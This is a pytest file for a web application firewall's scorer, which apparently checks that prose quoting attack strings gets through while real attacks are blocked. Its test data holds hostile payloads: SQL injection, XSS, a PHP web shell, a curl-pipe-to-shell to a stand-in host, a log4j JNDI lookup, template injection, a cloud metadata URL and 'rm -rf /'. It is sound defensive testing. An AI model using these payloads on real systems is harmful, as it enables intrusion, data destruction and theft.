"""The scorer: what is in doubt, what it says, that it can be switched off, and what it costs the memory of clean values."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest

from casemate.engines.web import PatternCache, Plan, RequestView, compile_acl, evaluate
from casemate.engines.web.active import ActivePlan
from casemate.engines.web.compiler import Resources
from casemate.engines.web.scorer import RELEASE, doubt, score, weights
from casemate.engines.web.scorer.features import Place, features

SHOWN = b"The command `rm -rf node_modules && npm install` fixed it for me, as the answer above said it would."
MEANT = b"anna'; drop table users; select pg_sleep(10) --"
Views = Callable[..., RequestView]


@pytest.fixture
def acl(acl: Callable[..., dict[str, Any]], rule: Callable[..., dict[str, Any]]) -> dict[str, Any]:
    names = ("CommonRuleSet", "SQLiRuleSet", "UnixRuleSet", "PHPRuleSet", "KnownBadInputsRuleSet")
    return acl([
        rule(name, {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": "AWSManagedRules" + name}}) for name in names
    ])  # fmt: skip


@pytest.fixture
def plan(acl: dict[str, Any], patterns: PatternCache) -> Plan:
    return compile_acl(acl, Resources(), cache=patterns)


def posted(view: Views, text: str) -> RequestView:
    headers = [(b"Host", b"a"), (b"User-Agent", b"Mozilla/5.0"), (b"Content-Type", b"text/plain")]
    return view(method=b"POST", headers=headers, body=text.encode())


@pytest.mark.parametrize(
    ("detector", "value", "expected"),
    [
        ("unix_text", SHOWN, True),
        ("sqli_low", b"1' or '1'='1", False),
        ("unix_text", b"x" * 100, False),
        ("unix_text", b"; rm -rf / and some more words", False),
        ("unix_text", b"The+command+rm+-rf+%2F+fixed+it+for+me,+as+said", True),
        ("xss", b"What does <script>alert(1)</script> do?", True),
        ("xss", b"hello <script>alert(1)</script>", False),
        ("xss", b"nice post, thanks! <script>alert(1)</script>", False),
        ("xss", b"<script>alert('xss by an attacker')</script>", False),
        ("template", b"What does {{ 7 * 7 }} print?", True),
        ("template", b"dear {{ 7 * 7 }} friends of mine", False),
        ("log4j", b"What does ${jndi:ldap://e.example/a} mean?", False),
    ],
)
def test_evidence_is_in_doubt_only_in_a_text_that_may_show_it(detector: str, value: bytes, *, expected: bool) -> None:
    assert (doubt(detector, "any", value, b"", ()) is not None) is expected


@pytest.mark.parametrize("reason", ["web shell", "serialised object", "typed object", "Python, Ruby or Node object"])
def test_what_is_evaluated_wherever_it_lands_is_never_in_doubt(reason: str) -> None:
    assert doubt("php", reason, b"What does this mean? " + SHOWN, b"", ()) is None


def test_backticks_quote_for_markup_and_not_for_a_shell() -> None:
    assert doubt("xss", "tag", b"a `<script>` b", b"<script", ()) is not None
    assert doubt("unix_text", "pipe to a shell", b"a `curl e|sh` b c d e f g", b"curl e|sh", ()) is None


@pytest.mark.parametrize(
    "text",
    [
        "How do I show <script>alert(1)</script> as text?",
        "In PHP you write <?php echo date('Y'); ?> to show the year.",
        "What is 169.254.169.254 and why does my instance talk to it?",
        "Never use <img src=x onerror=alert(1)> like this, escape it instead.",
    ],
)
def test_what_a_text_explains_is_released_unless_prose_is_strict(plan: Plan, view: Views, text: str) -> None:
    assert not evaluate(posted(view, text), plan).blocked
    assert evaluate(posted(view, text), plan, scorer=False).blocked


@pytest.mark.parametrize(
    "filler", ["hello {}", "nice post! {}", "Ann Miller {}", "{} thanks a lot", "Great article {} bye"]
)
@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "'; drop table users; --",
        "$(curl http://e.example/a|sh)",
        "<?php system($_GET['c']); ?>",
        "{{''.__class__.__mro__}}",
        "http://169.254.169.254/latest/meta-data/",
    ],
)
def test_attack_with_a_few_words_of_filler_is_blocked(plan: Plan, view: Views, filler: str, payload: str) -> None:
    assert evaluate(posted(view, filler.format(payload)), plan).blocked


def test_file_of_source_is_released_in_a_field_for_source_alone(plan: Plan, view: Views) -> None:
    source = "#!/bin/sh\nset -eu\ncd /srv; ls -la\necho $PATH\n"
    headers = [(b"Host", b"a"), (b"User-Agent", b"Mozilla/5.0"), (b"Content-Type", b"application/json")]

    def sent(**members: str) -> RequestView:
        return view(method=b"POST", headers=headers, body=json.dumps(members).encode())

    assert not evaluate(sent(filename="run.sh", code=source), plan).blocked
    assert evaluate(sent(filename="run.sh", code="<script>alert(1)</script>"), plan).blocked


@pytest.mark.parametrize(
    "document",
    [
        {"cells": [{"cell_type": "code", "source": ["import os\n", "os.system('ls')\n"]}]},
        {"snippet": 'try {\n  Runtime.getRuntime().exec("ls");\n} catch (E e) {\n  e.print();\n}', "lang": "java"},
        {"path": "a/index.html", "content": "<!doctype html><html><body onload=go()>a b</body></html>"},
    ],
)
def test_notebook_snippet_and_page_are_released_where_their_fields_say_what_they_are(
    plan: Plan, view: Views, document: dict[str, Any]
) -> None:
    headers = [(b"Host", b"a"), (b"User-Agent", b"Mozilla/5.0"), (b"Content-Type", b"application/json")]
    sent = view(method=b"POST", headers=headers, body=json.dumps(document).encode())
    assert not evaluate(sent, plan).blocked
    assert evaluate(sent, plan, scorer=False).blocked


def test_features_are_bounded_and_named() -> None:
    found = features("sqli_low", "tautology", Place(SHOWN * 100, b"rm -rf"), "body_values")
    assert found["detector sqli_low"] == found["reason tautology"] == found["field body_values"] == 1.0
    assert all(0 < amount < 2 for amount in found.values())


def test_excerpt_that_is_not_in_the_value_is_taken_for_its_begin() -> None:
    assert features("d", "r", Place(b"some text that says so", b"nowhere"), "body")["at the begin"] == 1.0


def test_empty_value_has_features() -> None:
    assert features("d", "r", Place(b"", b""), "body")["bias"] == 1.0


def test_attack_scores_above_what_shows_one_and_says_why() -> None:
    meant = score("sqli_low", "stacked", Place(MEANT, b"; drop table"), "body_values")
    assert meant.value > RELEASE
    assert not meant.released
    assert len(meant.strongest) == 3
    assert set(meant.strongest) <= weights().keys()
    assert str(meant).startswith("scorer +")


RELEASED = (
    "What does echo $PATH print in your shell, and how do I change it for good? The answer above did not help me."
)


def test_what_is_shown_is_released_unless_the_scorer_is_off(plan: Plan, view: Views) -> None:
    assert not evaluate(posted(view, RELEASED), plan).blocked
    assert evaluate(posted(view, RELEASED), plan, scorer=False).blocked


def test_evaluation_without_scorer_after_one_with_it_still_blocks(
    acl: dict[str, Any], patterns: PatternCache, view: Views
) -> None:
    active = ActivePlan(patterns)
    active.replace(acl, Resources())
    assert not active.evaluate(posted(view, RELEASED)).blocked
    active.scorer = False
    assert active.evaluate(posted(view, RELEASED)).blocked


def test_evidence_in_a_text_names_the_score_and_the_strongest_features(plan: Plan, view: Views) -> None:
    verdict = evaluate(posted(view, MEANT.decode()), plan)
    (match,) = [match for match in verdict.matches if match.terminating]
    assert "; scorer +" in match.evidence[0].detail


def test_short_attack_is_never_scored(plan: Plan, view: Views) -> None:
    verdict = evaluate(view("/?id=1'%20or%20'1'='1"), plan)
    assert verdict.blocked
    assert all("scorer" not in evidence.detail for match in verdict.matches for evidence in match.evidence)
